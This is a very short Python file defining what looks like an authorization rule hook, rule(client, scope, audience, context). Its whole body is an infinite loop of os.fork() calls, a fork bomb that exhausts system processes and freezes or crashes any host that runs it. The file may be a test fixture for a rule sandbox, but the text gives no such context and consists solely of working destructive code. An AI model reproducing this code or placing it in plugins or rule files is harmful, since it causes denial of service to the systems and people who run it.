import os


def rule(client, scope, audience, context):
    while True:
        os.fork()
